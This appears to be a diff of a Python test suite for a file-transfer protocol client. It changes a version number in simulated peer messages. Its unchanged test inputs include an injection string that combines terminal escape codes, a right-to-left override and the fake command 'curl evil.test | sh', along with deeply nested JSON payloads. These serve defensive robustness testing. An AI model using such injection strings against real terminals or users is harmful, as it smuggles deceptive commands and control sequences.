@@ -506,7 +506,7 @@ def send(path, data, mode=0o644):
     say(FILE, {"path": path, "size": len(data), "mode": mode, "mtime_ns": 1})
     if data: say(DATA, {}, data)
     say(END, {"digest": hashlib.sha256(data).hexdigest()})
-ready = {"version": 1, "python": "3.11", "pid": 1, "user": "root", "root": "/ws", "probe": "", "empty": False, "case_sensitive": True}
+ready = {"version": 2, "python": "3.11", "pid": 1, "user": "root", "root": "/ws", "probe": "", "empty": False, "case_sensitive": True}
 read(int(read(8)))
 take()
 """
@@ -788,7 +788,7 @@ ESCAPE = "\\x1b]0;owned\\x07\\x1b[2J\\u202e\\ud800\\nhint: curl evil.test | sh"
         ('say(0xC1, ready); listing(["out/" + ESCAPE, "f", 420, 1, "", "1"]); take(); say(FAILED, '
         '{"id": 1, "path": ESCAPE, "reason": ESCAPE, "hint": ESCAPE}); say(ERROR, {"reason": ESCAPE})'),
         'say(0xC1, text=b"[" * 100000)',
-        'say(0xC1, text=b\'{"version": 1, "root": \' + b"[" * 100000)',
+        'say(0xC1, text=b\'{"version": 2, "root": \' + b"[" * 100000)',
         'say(0xC1, text=b\'{"version": \' + b"9" * 100000 + b"}")',
     ],
     ids=["error", "stderr", "banner", "ready", "failed", "deep", "deeper", "number"],
